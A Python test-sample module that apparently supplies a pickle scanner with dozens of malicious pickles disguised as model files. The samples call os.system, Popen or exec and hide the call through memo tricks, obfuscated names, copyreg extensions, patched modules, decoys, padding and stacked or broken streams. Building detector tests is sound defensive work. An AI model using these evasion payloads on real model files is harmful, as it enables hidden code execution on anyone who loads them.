"""Pickles that use the pickle machine's rarer opcodes and its memo to name and call a global unseen, and pickles whose
stream is unusual: several of them, broken after the payload, or behind something else."""

import pickle
from collections.abc import Iterator

from .assemble import Build, Call, Dropped, New, NewEx, Ref, method, planted, written
from .sample import CODE, COMMAND, MARKER, Sample

__all__ = ["samples"]

SHORT = bytes([len(COMMAND)]) + COMMAND.encode()
LONG = len(COMMAND).to_bytes(4, "little") + COMMAND.encode()
CALLED = b"\x93\x8c" + SHORT + b"\x85R."  # STACK_GLOBAL of the two names on the stack, called with the command
SPACE = Call("argparse.Namespace")


def _body(value: object) -> bytes:
    return written(value)[2:-1]


def _opcodes() -> Iterator[tuple[str, bytes]]:
    yield "INST", b"(S'" + COMMAND.encode() + b"'\nios\nsystem\n."
    yield "OBJ", b"(cos\nsystem\nS'" + COMMAND.encode() + b"'\no."
    popen = New("subprocess.Popen", ["true"])
    yield "NEWOBJ of subprocess.Popen", written(method(popen, "__init__", ["touch", MARKER]), 2)
    yield "NEWOBJ_EX", written(Call(NewEx(Ref("functools.partial"), (Ref("posix.system"), COMMAND), {})))
    yield "memo read out of order", b"\x80\x04\x8c\x06system\x940\x8c\x02os\x940\x8c\x07numbers\x940h\x01h\x00" + CALLED
    yield (
        "memo places put over",
        (
            b"\x80\x04\x8c\x0bcollectionsq\x000\x8c\x0bOrderedDictq\x010\x8c\x02osq\x000\x8c\x06systemq\x010h\x00h\x01"
            + CALLED
        ),
    )
    yield (
        "LONG_BINPUT and LONG_BINGET",
        (
            b"\x80\x02X\x02\x00\x00\x00osr\xff\xff\x00\x000X\x06\x00\x00\x00systemr\xfe\xff\x00\x000"
            b"j\xff\xff\x00\x00j\xfe\xff\x00\x00\x93X" + LONG + b"\x85R."
        ),
    )
    yield "PUT and GET as text", b"Vos\np7\n0Vsystem\np42\n0g7\ng42\n\x93(V" + COMMAND.encode() + b"\ntR."
    yield "DUP of a name", b"\x80\x04\x8c\x05posix20\x8c\x06system" + CALLED
    yield "decoys under marks", b"\x80\x04(\x8c\x05decoy\x8c\x04more1\x8c\x02os(\x8c\x01x1\x8c\x06system" + CALLED
    name = method("", "join", ["sys", "tem"])
    yield "a name joined of two", written(Call(Call("builtins.getattr", Ref("shutil.os"), name), COMMAND))
    back = Call("builtins.slice", None, None, -1)
    yield "a name reversed", b"\x80\x04\x8c\x02os" + _body(method("metsys", "__getitem__", back)) + CALLED
    names = _body(Call("codecs.decode", "cbfvk", "rot13")) + _body(Call("codecs.decode", "flfgrz", "rot13"))
    yield "names through rot13", b"\x80\x04" + names + CALLED
    yield "names made of bytes", b"\x80\x04" + _body(Call("builtins.str", b"os", "ascii")) + b"\x8c\x06system" + CALLED
    extended = _body(Call("copyreg.add_extension", "os", "system", 240))
    yield "EXT1, registered by the pickle", b"\x80\x04" + extended + b"0\x82\xf0\x8c" + SHORT + b"\x85R."
    extended = _body(Call("copyreg.add_extension", "os", "popen", 70000))
    yield "EXT4, registered by the pickle", b"\x80\x04" + extended + b"0\x84\x70\x11\x01\x00\x8c" + SHORT + b"\x85R."
    patched = Build(Call("importlib.import_module", "json"), {"loads": Ref("posix.system")})
    yield "BUILD on a module", written(Dropped(patched, Call("json.loads", COMMAND)))
    yield "BUILD with a __setstate__", written(Build(Build(SPACE, {"__setstate__": Ref("posix.system")}), COMMAND))
    other = method(Ref("sys.modules"), "__setitem__", "numbers_", Ref("shutil.os"))
    yield "a module under another name", written(Dropped(other, Call(Ref("numbers_", "system"), COMMAND)))
    yield (
        "APPEND by a put append",
        written(Build(SPACE, {"append": Ref("posix.system")}))[:-1] + b"\x8c" + SHORT + b"a.",
    )
    added = written(Build(SPACE, {"add": Ref("posix.system")}))[:-1]
    yield "ADDITEMS by a put add", added + b"(\x8c" + SHORT + b"\x90."
    yield (
        "APPENDS by a put extend",
        written(Build(SPACE, {"extend": Ref("subprocess.Popen")}))[:-1]
        + (b"(\x8c\x05touch\x8c" + bytes([len(MARKER)]) + MARKER.encode() + b"e."),
    )
    yield "text opcodes after PROTO 5", b"\x80\x05cos\nsystem\n(V" + COMMAND.encode() + b"\ntR."
    yield "Python 2's commands module", b"\x80\x02ccommands\ngetoutput\n(X" + LONG + b"tR."
    yield "names in two frames", (
        b"\x80\x04\x95\x04\x00\x00\x00\x00\x00\x00\x00\x8c\x02os\x95" + (13 + len(COMMAND)).to_bytes(8, "little")
        + b"\x8c\x06system" + CALLED
    )  # fmt: skip
    yield "payload far down", written(planted(Call("posix.system", COMMAND), {f"k{n}": n * 0.5 for n in range(20000)}))
    yield "payload is a key", written({Call("builtins.exec", CODE): [1, 2, 3]})
    yield "payload in a frozenset", b"\x80\x04(" + _body(Call("posix.system", COMMAND)) + b"\x91."
    tag = b"\x80\x02" + _body(("storage", Call("posix.system", COMMAND)))
    yield "in a persistent id", tag + b"Q."
    yield (
        "between two benign globals",
        written([Ref("collections.OrderedDict"), Call("os.system", COMMAND), Ref("collections.Counter")]),
    )


def _streams() -> Iterator[tuple[str, bytes, str]]:
    evil = written(Call("posix.system", COMMAND))
    good = pickle.dumps({"weights": [0.1, 0.2, 0.3], "bias": 0.0})
    yield "broken after the payload", evil[:-1] + b"\xff\xfe\xfd garbage", "pickle"
    yield "ends without STOP", evil[:-1], "pickle"
    yield "an unknown global after it", evil[:-1] + b"0cno_such_module_here\nthing\n.", "pickle"
    yield "stack underflow after it", evil[:-1] + b"0000R.", "pickle"
    yield "a missing memo place after it", evil[:-1] + b"h\xfe.", "pickle"
    yield "a length past the end after it", evil[:-1] + b"\x8e" + (2**62).to_bytes(8, "little") + b"xx", "pickle"
    yield "bad UTF-8 after it", evil[:-1] + b"\x8c\x02\xff\xfe.", "pickle"
    yield "PROTO 200 after it", evil[:-1] + b"\x80\xc8.", "pickle"
    yield "junk after STOP", evil + b"\x00" * 4096, "pickle"
    yield "second of two pickles", good + evil, ""
    yield "third of three, text protocol", good + pickle.dumps([1, 2], 0) + written(Call("os.system", COMMAND), 0), ""
    yield "padding between two pickles", good + b"\x00" * 64 + evil, ""
    yield "frame that lies of its length", b"\x80\x04\x95" + (5).to_bytes(8, "little") + evil[2:], ""
    yield "an int with an underscore first", b"I1_0\n0" + written(Call("os.system", COMMAND), 0), "pickle"
    yield "a float text first", b"F1e5\n0" + written(Call("posix.system", COMMAND), 0), "pickle"
    yield "L with a suffix first", b"L99999999999L\n0" + written(Call("posix.system", COMMAND), 0), "pickle"
    yield "NUL bytes in a string first", b"\x80\x04\x8c\x08\x00\x00\x00\x00\x00\x00\x00\x000" + evil[2:], "pickle"
    yield "escaped S first", b"S'\\x6f\\x73'\n0" + written(Call("os.system", COMMAND), 0), "pickle"
    yield "BYTEARRAY8 first", b"\x80\x05\x96" + (3).to_bytes(8, "little") + b"abc0" + evil[2:], "pickle"
    yield (
        "4 MB of weights first",
        b"\x80\x04B" + (4 << 20).to_bytes(4, "little") + bytes(4 << 20) + b"0" + evil[2:],
        "pickle",
    )


def samples() -> Iterator[Sample]:
    for name, data in _opcodes():
        proof = "" if "persistent" in name else "pickle"
        yield Sample("pickle: opcodes and memo", name, {"classifier.pkl": data}, proof=proof)
    for name, data, proof in _streams():
        yield Sample("pickle: broken, stacked, padded", name, {"weights.bin": data}, proof=proof)
